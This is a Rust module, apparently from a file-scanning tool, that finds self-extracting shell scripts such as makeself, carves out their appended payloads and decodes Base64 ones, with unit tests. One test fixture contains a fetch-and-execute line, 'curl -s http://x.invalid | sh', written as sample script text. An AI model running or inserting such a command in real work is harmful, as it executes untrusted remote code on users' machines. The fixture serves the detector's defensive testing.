//! Self-extracting shell scripts: makeself, and every other script with bytes behind its last line that it cuts out with
//! `tail`, `sed`, `awk` or `dd`.
//!
//! makeself says in its head how many lines the script has (`skip="715"`, earlier `head -n 402 "$0"`) and how long its
//! archives are (`filesizes="327822"`). For all others the payload begins with the line whose bytes are no text: a known
//! archive, or something that is no text by far. What could still be read as script stays script.
//!
//! Format: <https://makeself.io/>. makeself's payloads in Base64 are decoded; other scripts' are looked for elsewhere.

use std::io::Write as _;
use std::ops::Range;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::stream::CHUNK;
use super::{Entries, Input, Produced, Wrapper};
use crate::identify::identify;
use crate::limits::Budget;
use crate::model::{Family, FileKind, Gap};

/// Opens them.
pub(super) struct Makeself;

/// The head that makeself's variables are looked for in, in bytes.
const HEAD: usize = 16 << 10;
/// A payload has at least this many bytes.
const LEAST: usize = 32;
/// Bytes by which a payload of no known form is judged.
const SAMPLE: usize = 4096;
/// Lines that are looked at before the first byte that is no text: archives may begin with a few letters.
const LINES_BACK: usize = 4;

impl Wrapper for Makeself {
    fn kinds(&self) -> &'static [FileKind] {
        &[FileKind::Shell]
    }

    fn unwrap(&self, input: &Input<'_, '_>, out: &mut Entries<'_>) -> Result<(), Gap> {
        let bytes: &[u8] = input.view;
        let (name, parts) = match (makeself(bytes), first_odd(bytes)) {
            (Some(parts), _) => ("makeself", parts),
            // Plain scripts, which are nearly all, end here.
            (None, None) => return Ok(()),
            (None, Some(odd)) => {
                ("self-extracting script", payload(bytes, odd).map(|at| at..bytes.len()).into_iter().collect())
            }
        };
        let Some(first) = parts.first().cloned() else { return Ok(()) };
        out.wrapped(name, first.start as u64);
        let end = parts.last().map_or(0, |p| p.end);
        for part in parts {
            emit(input, out, part)?;
        }
        // What follows makeself's archives is another payload or a signature.
        if end < bytes.len() && bytes.get(end..).is_some_and(|rest| rest.iter().any(|b| *b != 0)) {
            emit(input, out, end..bytes.len())?;
        }
        Ok(())
    }
}

fn emit(input: &Input<'_, '_>, out: &mut Entries<'_>, part: Range<usize>) -> Result<(), Gap> {
    let Some(view) = input.view.slice(part.clone()) else { return Ok(()) };
    // Base64 is looked at decoded; as it stands it is still text that a shell would read.
    if is_base64(&view) {
        return out.deferred("base64", "payload", move |budget| decode(&view, budget));
    }
    out.account(part.clone());
    out.bytes("payload".to_owned(), part.start as u64, view)
}

/// Where the first byte stands that no text has.
fn first_odd(bytes: &[u8]) -> Option<usize> {
    let control = bytes.iter().position(|b| *b < 0x20 && !matches!(b, 7..=13 | 0x1a | 0x1b));
    let text = bytes.get(..control.unwrap_or(bytes.len()))?;
    let invalid = std::str::from_utf8(text).err().map(|e| e.valid_up_to());
    invalid.or(control)
}

/// The archives of a makeself script.
fn makeself(bytes: &[u8]) -> Option<Vec<Range<usize>>> {
    let head = bytes.get(..HEAD).unwrap_or(bytes);
    memchr::memmem::find(head, b"Makeself")?;
    let lines = number_after(head, b"\nskip=\"").or_else(|| number_after(head, b"head -n "))?;
    let lines = usize::try_from(lines).ok()?.checked_sub(1)?;
    let start = memchr::memchr_iter(b'\n', bytes).nth(lines)?.checked_add(1)?;
    let sizes = after(head, b"\nfilesizes=\"")?;
    let sizes = sizes.split(|b| *b == b'"').next()?;
    let mut parts = Vec::new();
    let mut at = start;
    for size in sizes.split(|b| *b == b' ').filter(|s| !s.is_empty()) {
        let end = at.checked_add(std::str::from_utf8(size).ok()?.parse().ok()?)?;
        let part = at..end.min(bytes.len());
        // What else is text could be run, and stays script.
        let body = bytes.get(part.clone())?;
        if is_text(body) && !is_base64(body) {
            return None;
        }
        parts.push(part);
        at = end;
        if at >= bytes.len() || parts.len() >= 64 {
            break;
        }
    }
    parts.retain(|p| !p.is_empty());
    (!parts.is_empty()).then_some(parts)
}

fn after<'a>(bytes: &'a [u8], mark: &[u8]) -> Option<&'a [u8]> {
    bytes.get(memchr::memmem::find(bytes, mark)?.checked_add(mark.len())?..)
}

fn number_after(bytes: &[u8], mark: &[u8]) -> Option<u64> {
    let digits = after(bytes, mark)?;
    let end = digits.iter().position(|b| !b.is_ascii_digit())?;
    std::str::from_utf8(digits.get(..end)?).ok()?.parse().ok()
}

/// Lines of Base64, by their beginning.
fn is_base64(bytes: &[u8]) -> bool {
    let sample = bytes.get(..SAMPLE).unwrap_or(bytes);
    let digit = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'\n' | b'\r');
    sample.len() >= LEAST && sample.iter().all(digit)
}

/// Decodes lines of Base64, whatever their lengths.
fn decode(bytes: &[u8], budget: &Budget) -> Produced {
    let mut meter = budget.meter();
    let digits: Vec<u8> = bytes.iter().copied().filter(|b| !b.is_ascii_whitespace()).collect();
    for part in digits.chunks(CHUNK) {
        let decoded = match STANDARD.decode(part) {
            Ok(decoded) => decoded,
            Err(e) => return Produced::partial(meter.finish(), Gap::malformed(format!("the payload's Base64: {e}"))),
        };
        if let Err(e) = meter.write_all(&decoded) {
            let gap = meter.stopped().unwrap_or_else(|| Gap::malformed(e.to_string()));
            return Produced::partial(meter.finish(), gap);
        }
    }
    Produced::whole(meter.finish())
}

fn is_text(bytes: &[u8]) -> bool {
    first_odd(bytes.get(..SAMPLE).unwrap_or(bytes)).is_none()
}

/// Where the payload of any other script begins: with the line of the first byte that is no text, or one shortly before.
fn payload(bytes: &[u8], odd: usize) -> Option<usize> {
    let before = bytes.get(..odd)?;
    let starts = memchr::memrchr_iter(b'\n', before).map(|at| at.saturating_add(1)).take(LINES_BACK);
    let mut starts: Vec<usize> = starts.collect();
    starts.reverse();
    let known = starts.iter().copied().find(|at| bytes.get(*at..).is_some_and(is_known));
    // A payload whose first lines are cut differently, or with a mark on the same line.
    let known = known.or_else(|| bytes.get(odd..).filter(|b| is_known(b)).map(|_| odd));
    known.or_else(|| {
        let start = starts.last().copied()?;
        let rest = bytes.get(start..)?;
        (rest.len() >= LEAST && is_noise(rest)).then_some(start)
    })
}

/// An archive, a compressed stream or a program, by its magic.
fn is_known(bytes: &[u8]) -> bool {
    let kind = identify("", bytes).kind;
    bytes.len() >= LEAST && (matches!(kind.family(), Family::Container) || kind.is_executable())
}

/// Whether bytes are no script that a shell would go on reading, by far.
fn is_noise(bytes: &[u8]) -> bool {
    let sample = bytes.get(..SAMPLE).unwrap_or(bytes);
    let control = sample.iter().filter(|b| **b < 0x20 && !matches!(b, 7..=13 | 0x1a | 0x1b)).count();
    let invalid: usize = sample.utf8_chunks().map(|c| c.invalid().len()).sum();
    (control + invalid) * 4 > sample.len()
}

#[cfg(test)]
mod tests {
    use super::super::testing::{open, survive};
    use super::*;

    fn gzip() -> Vec<u8> {
        use std::io::Write as _;
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(&b"what the installer brings ".repeat(9)).unwrap();
        encoder.finish().unwrap()
    }

    fn made(parts: &[&[u8]]) -> Vec<u8> {
        let sizes: Vec<String> = parts.iter().map(|p| p.len().to_string()).collect();
        let head = format!(
            "#!/bin/sh\n# This script was generated using Makeself 2.4.5\nfilesizes=\"{}\"\nskip=\"6\"\n\nexit 0\n",
            sizes.join(" ")
        );
        [head.as_bytes(), &parts.concat()].concat()
    }

    #[test]
    fn makeself_archives_are_cut_out_as_it_says() {
        let (first, second) = (gzip(), [0x42u8, 0, 1, 2].repeat(20));
        let bytes = made(&[&first, &second]);
        let seen = open(&Makeself, FileKind::Shell, &bytes);
        assert_eq!(seen.result, Ok(()));
        assert_eq!(seen.children[0].1, first);
        assert_eq!(seen.children[1].1, second);
        let start = bytes.len() - first.len() - second.len();
        assert_eq!(seen.accounted, [start..start + first.len(), start + first.len()..bytes.len()]);
        assert_eq!(seen.findings[0].evidence[0].note, "makeself");
        // The script itself is not accounted for, and the whole is still a script.
        assert_eq!(identify("x.run", &bytes).kind, FileKind::Shell);
    }

    #[test]
    fn what_follows_the_archives_is_seen_too() {
        let mut bytes = made(&[&gzip()]);
        bytes.extend(b"\x7fELF and so on");
        let seen = open(&Makeself, FileKind::Shell, &bytes);
        assert_eq!(seen.children[1].1, b"\x7fELF and so on");
    }

    #[test]
    fn other_scripts_are_cut_at_the_first_line_that_is_no_text() {
        let mut tar = vec![0u8; 1536];
        tar[..5].copy_from_slice(b"x.sh\0");
        tar[148..156].copy_from_slice(b"        ");
        tar[156] = b'0';
        let sum: u32 = tar[..512].iter().map(|b| u32::from(*b)).sum();
        tar[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        let bzip2 = [b"BZh91AY&SY\n\n".to_vec(), (0u8..200).collect()].concat();
        let noise = crate::analyze::native::testing::noise(300);
        for payload in [gzip(), tar, bzip2, noise] {
            let script = b"#!/bin/sh\nsed -e '1,/^__ARCHIVE__$/d' \"$0\" | tar x\nexit\n__ARCHIVE__\n";
            let bytes = [&script[..], &payload].concat();
            let seen = open(&Makeself, FileKind::Shell, &bytes);
            assert_eq!(seen.children, [("payload".to_owned(), payload)]);
            assert_eq!(seen.accounted.first(), Some(&(script.len()..bytes.len())));
            assert_eq!(identify("install", &bytes).kind, FileKind::Shell);
        }
    }

    #[test]
    fn text_stays_script() {
        for text in [
            &b"#!/bin/sh\necho hello\n"[..],
            // A shell goes on behind a stray byte: nothing is taken away from it.
            b"#!/bin/sh\n# \0\0\x01\ncurl -s http://x.invalid | sh\ncurl -s http://x.invalid | sh\n",
            b"#!/bin/sh\n# caf\xe9 au lait\necho and so on and so on and so on\n",
            b"#!/bin/sh\n# Makeself\nskip=\"4\"\nfilesizes=\"40\"\necho this is no Base64 but a script | sh\n",
        ] {
            let seen = open(&Makeself, FileKind::Shell, text);
            assert!(seen.result.is_ok() && seen.children.is_empty() && seen.accounted.is_empty());
        }
    }

    #[test]
    fn base64_of_makeself_is_decoded_and_stays_script() {
        let lines: Vec<String> = STANDARD
            .encode(gzip())
            .as_bytes()
            .chunks(20)
            .map(|l| String::from_utf8_lossy(l).into_owned() + "\n")
            .collect();
        let bytes = made(&[lines.concat().as_bytes()]);
        let seen = open(&Makeself, FileKind::Shell, &bytes);
        assert_eq!(seen.children, [("payload".to_owned(), gzip())]);
        assert!(seen.accounted.is_empty() && seen.gaps.is_empty());
    }

    #[test]
    fn lying_heads_are_harmless() {
        let bytes = made(&[&gzip()]);
        let text = String::from_utf8_lossy(&bytes[..90]).into_owned();
        assert!(text.contains("skip"));
        for (from, to) in [("skip=\"6\"", "skip=\"0\""), ("skip=\"6\"", "skip=\"9\"")] {
            let at = memchr::memmem::find(&bytes, from.as_bytes()).unwrap();
            let mut other = bytes.clone();
            other[at..at + from.len()].copy_from_slice(to.as_bytes());
            // It falls back to the first line that is no text.
            let seen = open(&Makeself, FileKind::Shell, &other);
            assert!(seen.children.iter().any(|(_, c)| c.starts_with(&[0x1f, 0x8b])), "{to}");
        }
        assert!(open(&Makeself, FileKind::Shell, &made(&[&[1; 10], &[]])).result.is_ok());
        survive(&Makeself, FileKind::Shell, &bytes);
    }
}
